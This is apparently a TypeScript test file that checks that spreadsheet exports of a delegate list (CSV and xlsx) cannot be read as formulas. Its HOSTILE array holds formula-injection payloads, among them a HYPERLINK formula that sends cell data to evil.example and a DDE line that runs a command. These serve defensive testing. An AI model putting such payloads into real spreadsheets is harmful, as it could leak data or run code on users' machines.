/**
 * Exports are safe to open in Excel: a name or unit that starts with = + - @ (or a tab or
 * carriage return) is written as text, never as a formula. Uses the documents helper's
 * shared/domain/spreadsheet-safe.ts, on random text and on real files read back.
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { type SheetTable, tableCsv, tableWorkbook } from '../../../main/export/delegate-lists';
import { neutraliseFormula } from '../../../shared/domain/spreadsheet-safe';

const TRIGGER = /^[=+\-@\t\r]/;
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '+84912345678',
  '-1+1',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

/** Text that often starts with a formula trigger, and often not. */
const cellText = fc.oneof(
  fc.string(),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b),
  fc.constantFrom(...HOSTILE),
);

describe('formula injection', () => {
  it('never leaves text starting with a formula trigger, and changes nothing else', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const safe = neutraliseFormula(text);
        expect(safe).not.toMatch(TRIGGER);
        if (TRIGGER.test(text)) expect(safe).toBe(`'${text}`);
        else expect(safe).toBe(text);
      }),
      { numRuns: 500 },
    );
  });

  const table = (rows: string[][]): SheetTable => ({
    title: 'Danh sách đại biểu',
    headers: ['STT', 'Mã', 'Họ và tên', 'Đơn vị'],
    rows: rows.map((r, i) => [i + 1, ...r]),
  });
  const meta = {
    title: 'Danh sách',
    subject: 'Đại biểu',
    createdAt: '2026-12-15T07:30:00.000Z',
    appVersion: '0.1.0',
    schemaVersion: 4,
    congressName: '=Đại hội',
  };

  it('a CSV export read back: every hostile cell is text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cellText, cellText, cellText), { minLength: 1, maxLength: 8 }), async (rows) => {
        const bytes = tableCsv(table(rows.map((r) => [...r])));
        const parsed = Papa.parse<string[]>(bytes.toString('utf8').replace(/^\ufeff/, ''), { newline: '\r\n' }).data;
        const records = parsed.slice(1).filter((r) => r.length > 1); // Papa reads the final CRLF as one empty record
        expect(records).toHaveLength(rows.length); // every row read back, so the check below is not vacuous
        for (const record of records) for (const cell of record.slice(1)) expect(cell).not.toMatch(TRIGGER);
      }),
      { numRuns: 100 },
    );
  });

  it('an xlsx export read back: no formula cell, hostile text kept as typed, numbers still numbers', async () => {
    // An xlsx string cell is never a formula, so it keeps what was typed ("-Trần Văn Bình" stays so);
    // only the CSV, which a spreadsheet parses, gets the neutralising apostrophe.
    const bytes = await tableWorkbook([table(HOSTILE.map((h) => ['DB001', h, h]))], meta);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const texts: string[] = [];
    wb.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
    // (xlsx keeps line breaks as LF: a lone CR reads back as one)
    for (const h of HOSTILE) expect(texts.filter((x) => x === h.replace(/\r/g, '\n')).length).toBeGreaterThanOrEqual(2);
    expect(wb.worksheets[0]!.getCell('A5').value).toBe(1); // the STT column stays a number
    expect(wb.worksheets[0]!.getCell('A1').value).toBe('=Đại hội');
    expect(wb.worksheets[0]!.getCell('A1').type).toBe(ExcelJS.ValueType.String);
  });
});
